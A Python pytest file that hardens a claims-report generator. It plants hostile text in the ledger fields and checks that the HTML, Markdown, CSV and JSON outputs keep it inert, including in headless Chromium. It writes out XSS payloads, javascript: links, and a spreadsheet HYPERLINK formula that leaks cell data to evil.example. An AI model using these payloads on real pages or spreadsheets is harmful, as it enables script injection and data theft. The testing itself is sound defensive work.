"""Hardening: ledger text is untrusted. Hostile claim text must stay inert in every output.

A copy of the shipped data gets script tags, event handlers, Markdown link and attribute
injection, HTML comments, spreadsheet formulas, a 100,000-character cell, right-to-left Arabic
and control characters in the claim text fields. The report is rendered through the package API
(results.compute/write, report.write_report; figures skipped) and checked three ways: statically
(the HTML parsed: no active markup, every link http(s)), in exports (CSV formulas defused, JSON
faithful) and dynamically, by opening the HTML in real headless Chromium and checking that no
payload ran. A positive control proves the browser harness does detect a payload that runs.
"""

from __future__ import annotations

import csv
import html
import json
import os
import re
import signal
import subprocess
from html.parser import HTMLParser
from pathlib import Path
from types import SimpleNamespace

import pytest
from conftest import copy_data, read_rows, write_rows

from analysis.inputs import paths
from analysis.inputs.campaign import load_declaration
from analysis.inputs.load import load, validate
from analysis.inputs.rules import load_rules
from analysis.outputs import report, results
from analysis.outputs.export import FORMULA_TRIGGERS, write_csv

CHROMIUM = Path("/usr/bin/chromium")
PWNED = "PWNED"
# The report's title: the question, then the campaign's declared title (data/campaign.toml).
TITLE = f"Did the warnings come true? {load_declaration(paths.DEFAULT_DATA_DIR).main.title}"
# Every payload that could run marks the page: the title becomes PWNED or <body> gets data-pwned.
MARK = "document.title='PWNED';document.body.setAttribute('data-pwned','1')"
LONG_TEXT = ("long hostile cell " * 6000)[:100_000]
ARABIC = "قالت وزارة الدفاع الروسية إن الخوذ البيضاء تحضر لهجوم كيميائي مفبرك في إدلب"

PAYLOADS = {
    "script": f"<script>{MARK}</script>",
    "img_onerror": f'<img src=x onerror="{MARK}">',
    "svg_onload": f'<svg onload="{MARK}"></svg>',
    "iframe": "<iframe src=\"javascript:document.title='PWNED'\"></iframe>",
    "markdown_link": "[click](javascript:document.title='PWNED')",
    "markdown_link_alert": "[click me](javascript:alert(1)) and [ok](https://example.org)",
    "markdown_autolink": "<javascript:alert(1)>",
    "markdown_image": "![tracking pixel](https://evil.example/pixel.png)",
    "attr_list": "plain words {: onclick=\"document.title='PWNED'\" } more",
    "html_comment": "before <!-- hidden --> after the comment",
    "html_comment_unclosed": "text then <!-- an unclosed comment",
    "style": "<style>main{display:none}</style> styled",
    "entities": "&lt;script&gt;alert(1)&lt;/script&gt; &amp; &#60;b&#62;",
    "table_break": "cell | injected | row \\| escaped \\",
    "newlines": "line one\n\n# injected heading\n\n| a | b |\n|---|---|",
    "backticks": "`code` ```fence``` **bold** _em_ *star* #hash 1. list",
    "formula_hyperlink": '=HYPERLINK("http://evil.example/?leak="&A1,"Click for details")',
    "formula_plus": "+1",
    "formula_minus": "-1",
    "formula_at": "@SUM(A1)",
    "formula_tab": "\t=1+1",
    "arabic_rtl": f"{ARABIC} \u202eoverride\u202c end",
    "control_chars": "bell\x07 escape\x1b[31m vertical\x0b nul\x00 end",
    "long": LONG_TEXT,
}
TEXT_FIELDS = ("summary", "claimant", "place_text", "key_phrase", "notes", "outlets")
KEY_PHRASE_MAX = 200  # schema maxLength: longer key phrases are rejected, tested below
# source_urls must match ^https?://[^\s;]+ ...: these pass the schema and must still be inert.
HOSTILE_URLS = (
    "https://example.org/\"><script>document.title='PWNED'</script>",
    "https://example.org/<img/src=x/onerror=alert(1)>",
    "https://example.org/)(javascript:alert(1)",
)


def hostile_ledgers(target: Path) -> tuple[Path, dict[str, str]]:
    """Copy data/ and put every payload in every claim text field (rotated over the rows).

    Returns the folder and claim_id -> the payload placed in its summary.
    """
    data = copy_data(target)
    header, rows = read_rows(data / "claims.csv")
    names = list(PAYLOADS)
    assert len(rows) >= len(names)
    in_summary = {}
    for i, row in enumerate(rows):
        for shift, field in enumerate(TEXT_FIELDS):
            payload = PAYLOADS[names[(i + shift) % len(names)]]
            if field == "key_phrase" and len(payload) > KEY_PHRASE_MAX:
                payload = payload[:KEY_PHRASE_MAX]
            row[header.index(field)] = payload
        if i < len(HOSTILE_URLS):
            row[header.index("source_urls")] = f"{HOSTILE_URLS[i]};https://example.org/ok"
        in_summary[row[0]] = row[header.index("summary")]
    write_rows(data / "claims.csv", header, rows)
    return data, in_summary


class Dom(HTMLParser):
    """Elements, attributes and text of an HTML document, as a browser's tokenizer sees them."""

    def __init__(self, text: str):
        super().__init__(convert_charrefs=True)
        self.tags: list[tuple[str, dict]] = []
        self.text: list[str] = []
        self.comments: list[str] = []
        self.title = ""
        self._in_title = False
        self.feed(text)
        self.close()

    def handle_starttag(self, tag, attrs):
        self.tags.append((tag, dict(attrs)))
        self._in_title = tag == "title"

    def handle_endtag(self, tag):
        self._in_title = False

    def handle_data(self, data):
        if self._in_title:
            self.title += data
        self.text.append(data)

    def handle_comment(self, data):
        self.comments.append(data)

    def all_text(self) -> str:
        return " ".join("".join(self.text).split())


def check_inert(dom: Dom) -> None:
    """No element or attribute in the document can run code, load anything or navigate to javascript:."""
    names = [tag for tag, _ in dom.tags]
    for active in ("script", "iframe", "svg", "object", "embed", "img", "form", "base"):
        assert active not in names, f"<{active}> element in the report"
    for tag, attrs in dom.tags:
        for name, value in attrs.items():
            assert not name.startswith("on"), f"<{tag} {name}=...> event handler in the report"
            assert "javascript:" not in (value or "").lower(), f"<{tag} {name}={value!r}>"
        if tag == "a":
            href = attrs.get("href") or ""
            assert re.match(r"^(https?://|#)", href), f"link to {href!r}"
    assert dom.comments == [], f"HTML comments in the report: {dom.comments[:3]}"


@pytest.fixture(scope="module")
def rendered(tmp_path_factory):
    tmp = tmp_path_factory.mktemp("hostile")
    data, in_summary = hostile_ledgers(tmp / "data")
    problems = validate(data)
    assert problems == [], [str(p) for p in problems]
    ledgers = load(data)
    computed = results.compute(ledgers, load_rules(data / "rules.toml"))
    root = tmp / "out"
    report_dir = paths.report_dir(root)
    written = results.write(computed, report_dir)
    outputs = report.write_report(root, ledgers, [])  # figures skipped: an empty figure list
    html_text = (report_dir / "report.html").read_text(encoding="utf-8")
    return SimpleNamespace(
        tmp=tmp,
        data=data,
        ledgers=ledgers,
        in_summary=in_summary,
        report_dir=report_dir,
        written=written,
        outputs=outputs,
        html=html_text,
        markdown=(report_dir / "report.md").read_text(encoding="utf-8"),
        pdf=(report_dir / "report.pdf").read_bytes(),
    )


# --- the data: hostile text is valid text, a non-http URL is not ----------------------------------


def test_hostile_text_reaches_the_ledgers(rendered):
    claims = rendered.ledgers.claims
    for field in TEXT_FIELDS:
        values = set(claims[field].dropna())
        assert PAYLOADS["script"] in values or field == "key_phrase", field
    assert LONG_TEXT in set(claims["summary"]) and len(LONG_TEXT) == 100_000
    assert any(ARABIC in v for v in claims["summary"])


@pytest.mark.parametrize(
    "url",
    [
        "javascript:alert(1)",
        "JAVASCRIPT:alert(1)",
        "data:text/html,<script>alert(1)</script>",
        "file:///etc/passwd",
        "ftp://example.org/x",
        "//example.org/x",
        "https://example.org/a b",
        "https://example.org/ok;javascript:alert(1)",
        " https://example.org/leading-space",
    ],
)
def test_non_http_source_url_is_rejected(tmp_path, url):
    data = copy_data(tmp_path / "data")
    header, rows = read_rows(data / "claims.csv")
    rows[2][header.index("source_urls")] = url
    write_rows(data / "claims.csv", header, rows)
    problems = [str(p) for p in validate(data)]
    assert len(problems) == 1, problems
    assert problems[0].startswith("claims.csv:4: source_urls: "), problems
    assert "http(s) URLs" in problems[0]


def test_overlong_key_phrase_is_rejected(tmp_path):
    data = copy_data(tmp_path / "data")
    header, rows = read_rows(data / "claims.csv")
    rows[2][header.index("key_phrase")] = LONG_TEXT
    write_rows(data / "claims.csv", header, rows)
    problems = [str(p) for p in validate(data)]
    assert problems == ["claims.csv:4: key_phrase: text is longer than 200 characters"]


# --- the rendered report ------------------------------------------------------------------------------


def test_report_files_are_written(rendered):
    assert [p.name for p in rendered.outputs] == ["report.md", "report.html", "report.pdf"]
    assert all(p.stat().st_size > 0 for p in rendered.outputs)


def test_html_has_no_active_markup(rendered):
    dom = Dom(rendered.html)
    check_inert(dom)
    assert dom.title == TITLE
    lowered = rendered.html.lower()
    assert "<script" not in lowered
    assert not re.search(r"<[a-z][^>]*\son[a-z]+\s*=", lowered), "an event handler attribute in markup"
    # Inside a tag (text may quote 'src="javascript:…"' as long as its '<' is escaped).
    assert not re.search(r"""<[a-z][^>]*(href|src)\s*=\s*["']?\s*javascript:""", lowered)
    assert "<!--" not in rendered.html


def test_html_keeps_its_content_security_policy(rendered):
    dom = Dom(rendered.html)
    csp = [
        a.get("content", "") for t, a in dom.tags if t == "meta" and a.get("http-equiv") == "Content-Security-Policy"
    ]
    assert csp and "default-src 'none'" in csp[0] and "script-src" not in csp[0]


def test_every_link_is_http_or_an_anchor(rendered):
    dom = Dom(rendered.html)
    hrefs = [a.get("href") or "" for t, a in dom.tags if t == "a"]
    assert hrefs, "no links at all: the sources column did not render"
    external = [h for h in hrefs if not h.startswith("#")]
    assert external and all(re.match(r"^https?://[^\s<>\"'()\[\]`]+$", h) for h in external), external
    # The schema-valid but hostile URLs are shown as text, not made into links.
    for url in HOSTILE_URLS:
        assert url not in hrefs


def test_payloads_are_shown_as_text(rendered):
    """Each summary payload appears literally in the page text: escaped, neither executed nor dropped."""
    text = Dom(rendered.html).all_text()
    for claim_id, payload in rendered.in_summary.items():
        visible = " ".join(payload.split())
        if len(visible) > report.LONG_TEXT:  # the report shortens very long cells (the CSV keeps them whole)
            visible = visible[:200]
        visible = visible.split("\x07")[0]  # control characters: checked only up to the first one
        assert visible in text, (claim_id, visible[:80])
    assert "after the comment" in text and "an unclosed comment" in text


def test_tilde_is_shown_without_a_backslash():
    body = report.render_html(
        "| x |\n|---|\n| " + report.md_text("about ~30 people, ~~struck~~") + " |", Path("."), "t"
    )
    cell = re.search(r"<td>(.*?)</td>", body).group(1)
    assert html.unescape(cell) == "about ~30 people, ~~struck~~"


def test_long_cell_is_shortened_at_a_word_with_a_pointer(rendered):
    assert LONG_TEXT not in rendered.html
    assert LONG_TEXT[:100] in html.unescape(rendered.html)
    shown = re.search(r"((?:long hostile cell )+[a-z]*)" + re.escape(report.SHORTENED), html.unescape(rendered.html))
    assert shown, "the shortened cell does not say where the full text is"
    assert shown.group(1).split()[-1] in {"long", "hostile", "cell"}, "cut inside a word"
    assert len(rendered.html.encode("utf-8")) < 1_000_000
    assert max(len(line) for line in rendered.markdown.splitlines()) < 5_000


def test_markdown_escapes_payloads(rendered):
    """report.md is shown by GitHub: no raw tag or live link from ledger text may survive in it."""
    md = rendered.markdown
    assert "<script" not in md.lower() and "<img" not in md.lower() and "<!--" not in md
    assert "](javascript:" not in md.lower()
    assert "[click](javascript:" not in md, "Markdown link syntax was not escaped"


def commonmark(markdown_text: str) -> str:
    """report.md as GitHub shows it (CommonMark with GFM tables and strikethrough)."""
    from markdown_it import MarkdownIt

    return MarkdownIt("commonmark").enable(["table", "strikethrough"]).render(markdown_text)


def test_markdown_is_inert_under_commonmark(rendered):
    check_inert(Dom(commonmark(rendered.markdown)))


def test_markdown_shows_ledger_text_literally_under_commonmark(rendered):
    text = Dom(commonmark(rendered.markdown)).all_text()
    for claim_id, payload in rendered.in_summary.items():
        visible = " ".join(payload.split())[:200].split("\x07")[0]
        assert visible in text, (claim_id, visible[:80])


def test_pdf_renders(rendered):
    assert rendered.pdf.startswith(b"%PDF")
    assert rendered.pdf.rstrip().endswith(b"%%EOF")
    assert len(rendered.pdf) > 10_000


# --- exports --------------------------------------------------------------------------------------------


def _cells(path: Path) -> list[str]:
    with path.open(newline="", encoding="utf-8") as handle:
        return [cell for row in csv.reader(handle) for cell in row]


def _is_number(cell: str) -> bool:
    try:
        float(cell)
    except ValueError:
        return False
    return True


def test_claims_export_defuses_formulas(rendered):
    path = rendered.tmp / "claims_export.csv"
    write_csv(rendered.ledgers.claims.drop(columns=["place_list"]), path)
    cells = _cells(path)
    for name in ("formula_hyperlink", "formula_plus", "formula_minus", "formula_at", "formula_tab"):
        assert "'" + PAYLOADS[name] in cells, name
    live = [c for c in cells if c.startswith(FORMULA_TRIGGERS) and not _is_number(c)]
    assert live == [], live[:5]
    assert LONG_TEXT in cells  # the CSV keeps the whole cell


@pytest.mark.parametrize("name", [paths.VERDICTS_FILE, paths.GRID_VERDICTS_FILE, paths.SENSITIVITY_FILE])
def test_result_csvs_have_no_live_formula(rendered, name):
    cells = _cells(paths.tables_in(rendered.report_dir) / name)
    assert cells
    live = [c for c in cells if c.startswith(FORMULA_TRIGGERS) and not _is_number(c)]
    assert live == [], live[:5]


def test_claimreview_keeps_text_faithfully(rendered):
    document = json.loads((paths.tables_in(rendered.report_dir) / paths.CLAIMREVIEW_FILE).read_text(encoding="utf-8"))
    reviewed = {r["identifier"]: r["claimReviewed"] for r in document["@graph"]}
    assert reviewed, "no scored claims"
    for claim_id, text in reviewed.items():
        assert text == rendered.in_summary[claim_id]


def test_claimreview_is_safe_to_embed_in_a_script_element(rendered):
    text = (paths.tables_in(rendered.report_dir) / paths.CLAIMREVIEW_FILE).read_text(encoding="utf-8")
    assert "</script" not in text.lower() and "<!--" not in text


# --- real browser ---------------------------------------------------------------------------------------


def chromium(url: str, tmp: Path, *extra: str) -> str:
    """Run headless Chromium on a file:// URL (no network, fresh profile); return stdout."""
    if not CHROMIUM.exists():
        pytest.skip("/usr/bin/chromium is not installed")
    profile = tmp / f"profile-{len(list(tmp.glob('profile-*')))}"
    command = [
        str(CHROMIUM),
        "--headless",
        "--no-sandbox",
        "--disable-gpu",
        "--disable-quic",
        "--no-first-run",
        "--disable-background-networking",
        "--disable-component-update",
        "--disable-sync",
        f"--user-data-dir={profile}",
        "--virtual-time-budget=3000",  # let onerror/onload handlers fire before the DOM is dumped
        *extra,
        url,
    ]
    proc = subprocess.Popen(command, stdout=subprocess.PIPE, stderr=subprocess.PIPE, text=True, start_new_session=True)
    try:
        out, err = proc.communicate(timeout=90)
    except subprocess.TimeoutExpired:
        os.killpg(proc.pid, signal.SIGKILL)  # the group of the browser this test started
        proc.communicate()
        pytest.fail("chromium did not finish in 90 s")
    assert proc.returncode == 0, err[-2000:]
    return out


def dump_dom(page: Path, tmp: Path) -> Dom:
    out = chromium(page.as_uri(), tmp, "--dump-dom")
    assert "<html" in out.lower(), out[:500]
    return Dom(out)


def assert_nothing_ran(dom: Dom) -> None:
    assert dom.title == TITLE, f"title changed to {dom.title!r}"
    body = [a for t, a in dom.tags if t == "body"]
    assert body and "data-pwned" not in body[0], "a payload marked <body>"
    assert [t for t, _ in dom.tags if t in ("script", "img", "svg", "iframe")] == []


def test_browser_control_detects_a_payload_that_runs(rendered, tmp_path):
    """Positive control: the same payloads pasted unescaped into a page without CSP do run."""
    body = "".join(f"<p>{PAYLOADS[name]}</p>" for name in ("script", "img_onerror"))
    page = tmp_path / "control.html"
    page.write_text(f"<!DOCTYPE html><html><head><title>{TITLE}</title></head><body>{body}</body></html>", "utf-8")
    dom = dump_dom(page, tmp_path)
    assert dom.title == PWNED
    assert "data-pwned" in [a for t, a in dom.tags if t == "body"][0]


def test_browser_runs_no_payload_in_the_report(rendered, tmp_path):
    page = tmp_path / "report.html"
    page.write_text(rendered.html, encoding="utf-8")
    dom = dump_dom(page, tmp_path)
    assert_nothing_ran(dom)
    assert PAYLOADS["script"] in dom.all_text()  # rendered as text by the browser


def test_browser_runs_no_payload_even_without_csp(rendered, tmp_path):
    """Escaping alone must suffice: the CSP is a second line of defence, not the only one."""
    without = re.sub(r'<meta http-equiv="Content-Security-Policy"[^>]*>\n?', "", rendered.html)
    assert without != rendered.html
    page = tmp_path / "report-no-csp.html"
    page.write_text(without, encoding="utf-8")
    dom = dump_dom(page, tmp_path)
    assert_nothing_ran(dom)
    assert PAYLOADS["img_onerror"] in dom.all_text()


def test_browser_screenshot_of_the_hostile_appendix(rendered, tmp_path):
    """A picture of the appendix table holding the payloads (path printed; kept in pytest's tmp)."""
    appendix = rendered.markdown[rendered.markdown.index("## Appendix") :]
    page = tmp_path / "appendix.html"
    page.write_text(report.render_html(appendix, tmp_path / "figures", TITLE), encoding="utf-8")
    shot = tmp_path / "hostile-appendix.png"
    chromium(page.as_uri(), tmp_path, f"--screenshot={shot}", "--window-size=1280,2400", "--hide-scrollbars")
    assert shot.exists() and shot.read_bytes().startswith(b"\x89PNG")
    assert shot.stat().st_size > 20_000  # a rendered table, not a blank page
    print(f"\nscreenshot: {shot}")
